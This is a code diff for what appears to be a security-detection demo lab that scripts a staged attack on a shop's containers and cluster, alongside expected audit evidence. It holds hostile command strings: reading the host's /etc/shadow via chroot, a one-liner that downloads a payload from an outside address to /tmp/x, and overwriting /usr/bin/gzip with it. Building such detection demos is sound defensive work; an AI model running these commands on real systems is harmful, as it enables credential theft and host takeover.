@@ -1,11 +1,9 @@
-"""The story: a shop has a normal day, and then it does not."""
+"""The attack: on the shop's containers by a shell, and on the cluster by stolen tokens."""
 
 from __future__ import annotations
 
-import random
 import time
 from collections.abc import Callable, Sequence
-from contextlib import suppress
 from dataclasses import asdict, dataclass
 from functools import partial
 from typing import Any
@@ -13,19 +11,19 @@ from typing import Any
 from deploy.demo.lab import cluster_story, shop
 from deploy.demo.lab.cluster import Cluster
 from deploy.demo.lab.engine import Engine
-from deploy.demo.lab.errors import LabError
 from deploy.demo.lab.images import MINER, REGISTRY, VERSION
 from deploy.demo.lab.outside import ADDRESS, PORT
 from deploy.demo.lab.sensor import watch_container
 from deploy.demo.lab.shell import Shell
-from deploy.demo.lab.timetable import Beat, every
+from deploy.demo.lab.timetable import Beat
 
-VISITS_A_SECOND = 2.0
 ATTACK_SECONDS = 90.0
 HELPER = "metrics-helper"
 UPDATER = "system-update"
 HOST_COMMANDS = "cat /host/etc/shadow; chroot /host /usr/bin/id; sleep 2"
 DROPPED = "/tmp/x"  # noqa: S108  where attackers drop
+APPROVED = "/usr/bin/gzip"
+INVOICE = "/var/lib/shop/invoices/10.txt.gz"
 DOWNLOAD = f"import urllib.request as r; open('{DROPPED}', 'wb').write(r.urlopen('http://{ADDRESS}:{PORT}/x').read())"
 
 
@@ -40,51 +38,8 @@ class Done:
     evidence: Sequence[str]
 
 
-def a_normal_day(engine: Engine, cluster: Cluster, seconds: float) -> list[list[Beat]]:
-    """Return the timetables of the shop, of its customers and of the cluster, for so many seconds of normal load."""
-    return [_shop(engine, seconds), _customers(seconds), _cluster(cluster, seconds)]
-
-
-def _shop(engine: Engine, seconds: float) -> list[Beat]:
-    numbers = iter(range(1, 1_000_000))
-    return [
-        *every(30, partial(_check_health, engine), first=5, until=seconds),
-        *every(90, lambda: shop.run_report(engine, next(numbers)), first=20, until=seconds),
-        Beat(0.55 * seconds, partial(shop.restart, engine, shop.CACHE)),
-    ]
-
-
-def _customers(seconds: float) -> list[Beat]:
-    chance = random.Random(seconds)  # noqa: S311  customers need no cryptography
-    return list(every(1 / VISITS_A_SECOND, partial(_visit, chance), until=seconds))
-
-
-def _cluster(cluster: Cluster, seconds: float) -> list[Beat]:
-    return [
-        Beat(0, partial(cluster_story.release, cluster, VERSION)),
-        *every(20, partial(cluster_story.app_reads_its_secret, cluster), first=8, until=seconds),
-        *every(30, partial(cluster_story.node_reports, cluster), first=10, until=seconds),
-        *every(120, partial(cluster_story.operator_looks, cluster), first=40, until=seconds),
-        Beat(0.1 * seconds, partial(cluster_story.operator_grants_a_view, cluster)),
-        Beat(0.45 * seconds, partial(cluster_story.pipeline_rotates_the_password, cluster)),
-        Beat(0.6 * seconds, partial(cluster_story.release, cluster, f"{VERSION}, again", ["app"])),
-    ]
-
-
-def _check_health(engine: Engine) -> None:
-    for service in shop.SERVICES:
-        with suppress(LabError):  # unhealthy while something restarts: that is what the check is for
-            engine.check_health(service.container)
-
-
-def _visit(chance: random.Random) -> None:
-    order = chance.random() < 0.15  # noqa: PLR2004  the share of visitors who buy
-    browse = chance.choice(("/", "/api/products", "/api/products"))
-    shop.visit(f"/api/orders/{chance.randint(1, 3)}" if order else browse, order=order)
-
-
 class Attack:
-    """The attack: on the shop's containers by a shell, and on the cluster by stolen tokens. ``done`` tells what was done."""
+    """The attack; ``done`` tells what was done."""
 
     def __init__(self, engine: Engine, cluster: Cluster) -> None:
         self.done: list[Done] = []
@@ -93,8 +48,7 @@ class Attack:
         self._shell = Shell(engine, shop.APP.container)
 
     def timetables(self) -> list[list[Beat]]:
-        """Return the attack and, beside it, the normal load that goes on."""
-        return [self._on_containers(), self._on_the_cluster(), *self._meanwhile()]
+        return [self._on_containers(), self._on_the_cluster()]
 
     def close(self) -> None:
         """Leave the shell and take the attacker's containers away."""
@@ -143,6 +97,14 @@ class Attack:
                 f"auditd: exec {DROPPED}",
                 f"auditd: connect {ADDRESS}:{PORT}",
             ),
+            self._types(
+                44,
+                "overwritten-binary",
+                f"{APPROVED} overwritten with {DROPPED} and executed as always",
+                f"cp {DROPPED} {APPROVED}; {APPROVED} --test {INVOICE} &",
+                f"auditd: write {APPROVED} by /usr/bin/cp",
+                f"auditd: exec {APPROVED} with another sha256",
+            ),
             self._step(
                 50,
                 "privileged-container",
@@ -189,11 +151,6 @@ class Attack:
                 64, "creates a privileged pod with the host's root", cluster_story.thief_creates_a_privileged_pod
             ),
         ]
-
-    def _meanwhile(self) -> list[list[Beat]]:
-        shop_goes_on = list(every(30, partial(_check_health, self._engine), first=5, until=ATTACK_SECONDS))
-        app_goes_on = every(20, partial(cluster_story.app_reads_its_secret, self._cluster), until=ATTACK_SECONDS)
-        return [shop_goes_on, _customers(ATTACK_SECONDS), list(app_goes_on)]
 
     def _types(self, seconds: float, step: str, what: str, line: str, *evidence: str) -> Beat:
         return self._step(seconds, step, shop.APP.container, what, partial(self._shell.type, line), *evidence)
